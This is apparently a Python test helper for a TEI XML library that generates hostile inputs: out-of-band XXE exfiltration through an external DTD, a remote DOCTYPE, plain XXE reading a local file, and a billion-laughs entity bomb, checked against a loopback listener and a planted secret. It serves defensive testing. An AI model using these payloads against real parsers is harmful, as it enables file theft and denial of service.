"""Hostile inputs for the security tests, and the two witnesses of a leak: a loopback listener
that records every connection made to it, and a secret file whose text must appear nowhere.

Every document made here points at the listener (never at a real host), so a test that sees
no connection knows that teitools reached for nothing.
"""

from __future__ import annotations

import os
import secrets
import socket
import subprocess
import sys
import tempfile
import time
from pathlib import Path

TEI = "http://www.tei-c.org/ns/1.0"


# The listener's own process: accept, note the request line, answer 403, close.
_LISTEN = """
import socket, sys
sock = socket.socket(fileno=int(sys.argv[1]))
log = open(sys.argv[2], "ab", buffering=0)
while True:
    conn, _ = sock.accept()
    conn.settimeout(0.5)
    try:
        data = conn.recv(4096)
    except OSError:
        data = b""
    log.write(((data or b"(connected)").splitlines() or [b"(empty)"])[0][:500] + b"\\n")
    try:
        conn.sendall(b"HTTP/1.0 403 Forbidden\\r\\nContent-Length: 0\\r\\n\\r\\n")
    except OSError:
        pass
    conn.close()
"""


class Listener:
    """A TCP listener on 127.0.0.1 that records every connection (its first bytes) and
    answers 403 at once, so that a client that reached it fails fast and learns nothing.

    It runs in a process of its own: a library blocked in native code while holding the
    interpreter (Saxon waiting on a socket does) would keep a listener thread from ever
    accepting, and a leak would hang the test instead of failing it."""

    host = "127.0.0.1"

    def __init__(self) -> None:
        self._sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self._sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self._sock.bind((self.host, 0))
        self._sock.listen(16)
        self.port = self._sock.getsockname()[1]
        fd, self._log = tempfile.mkstemp(prefix="teitools-listener-", suffix=".log")
        os.close(fd)
        self._proc = subprocess.Popen(
            [sys.executable, "-c", _LISTEN, str(self._sock.fileno()), self._log],
            pass_fds=[self._sock.fileno()],
            stdin=subprocess.DEVNULL,
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
        )

    @property
    def url(self) -> str:
        return f"http://{self.host}:{self.port}"

    @property
    def connections(self) -> list[bytes]:
        """The first line of each connection made so far."""
        try:
            return Path(self._log).read_bytes().splitlines()
        except OSError:
            return []

    def close(self) -> None:
        time.sleep(0.05)  # a connection accepted just now is written down
        found = self.connections
        self._proc.kill()
        self._proc.wait(5)
        self._sock.close()
        Path(self._log).unlink(missing_ok=True)
        self.connections_at_close = found


def plant_secret(folder: Path) -> tuple[Path, str]:
    """A file holding a random token; the token must never appear in any output."""
    token = "SECRET-" + secrets.token_hex(12)
    path = folder / "secret.txt"
    path.write_text(token + "\n", encoding="utf-8")
    return path, token


def leaks(token: str, *places: Path | str | bytes) -> list[str]:
    """Where the token turns up: in files (folders searched whole), or in given text."""
    found = []
    needle = token.encode()
    for place in places:
        if isinstance(place, bytes | str) and not isinstance(place, Path):
            data = place.encode() if isinstance(place, str) else place
            if needle in data:
                found.append("(output)")
            continue
        p = Path(place)
        files = [f for f in p.rglob("*") if f.is_file()] if p.is_dir() else [p]
        for f in files:
            if f.exists() and needle in f.read_bytes():
                found.append(str(f))
    return found


def tei(body: str = "<p>Text.</p>", title: str = "Hostile", prolog: str = "") -> str:
    """A small valid TEI document, with `prolog` (a DOCTYPE, PIs) before its root."""
    return f"""<?xml version="1.0" encoding="UTF-8"?>
{prolog}<TEI xmlns="{TEI}">
  <teiHeader><fileDesc>
    <titleStmt><title>{title}</title></titleStmt>
    <publicationStmt><p>Test.</p></publicationStmt>
    <sourceDesc><p>Made by the test.</p></sourceDesc>
  </fileDesc></teiHeader>
  <text><body>{body}</body></text>
</TEI>
"""


def out_of_band(folder: Path, secret: Path, listener: Listener, name: str = "oob.xml") -> Path:
    """The classic out-of-band exfiltration: an external DTD whose parameter entities read a
    local file and put its text into a URL on the listener."""
    dtd = folder / "oob.dtd"
    dtd.write_text(
        f'<!ENTITY % f SYSTEM "{secret.as_uri()}">\n'
        f"<!ENTITY % e \"<!ENTITY &#x25; x SYSTEM '{listener.url}/exfil?%f;'>\">\n"
        "%e;\n%x;\n",
        encoding="utf-8",
    )
    doc = folder / name
    doc.write_text(tei(prolog=f'<!DOCTYPE TEI SYSTEM "{dtd.name}">\n'), encoding="utf-8")
    return doc


def remote_doctype(folder: Path, listener: Listener, name: str = "remote.xml") -> Path:
    """A document whose DOCTYPE names a DTD on the listener."""
    doc = folder / name
    doc.write_text(
        tei(prolog=f'<!DOCTYPE TEI SYSTEM "{listener.url}/tei.dtd">\n'), encoding="utf-8"
    )
    return doc


def external_entity(folder: Path, secret: Path, name: str = "xxe.xml") -> Path:
    """Plain XXE: an entity whose text is the secret file, used in the body."""
    doc = folder / name
    doc.write_text(
        tei(
            body="<p>&xxe;</p>",
            prolog=f'<!DOCTYPE TEI [<!ENTITY xxe SYSTEM "{secret.as_uri()}">]>\n',
        ),
        encoding="utf-8",
    )
    return doc


def entity_bomb(folder: Path, name: str = "bomb.xml") -> Path:
    """A billion laughs."""
    ents = ['<!ENTITY a0 "lol">'] + [
        f'<!ENTITY a{i} "{("&a" + str(i - 1) + ";") * 10}">' for i in range(1, 10)
    ]
    doc = folder / name
    doc.write_text(
        tei(body="<p>&a9;</p>", prolog="<!DOCTYPE TEI [" + "".join(ents) + "]>\n"),
        encoding="utf-8",
    )
    return doc
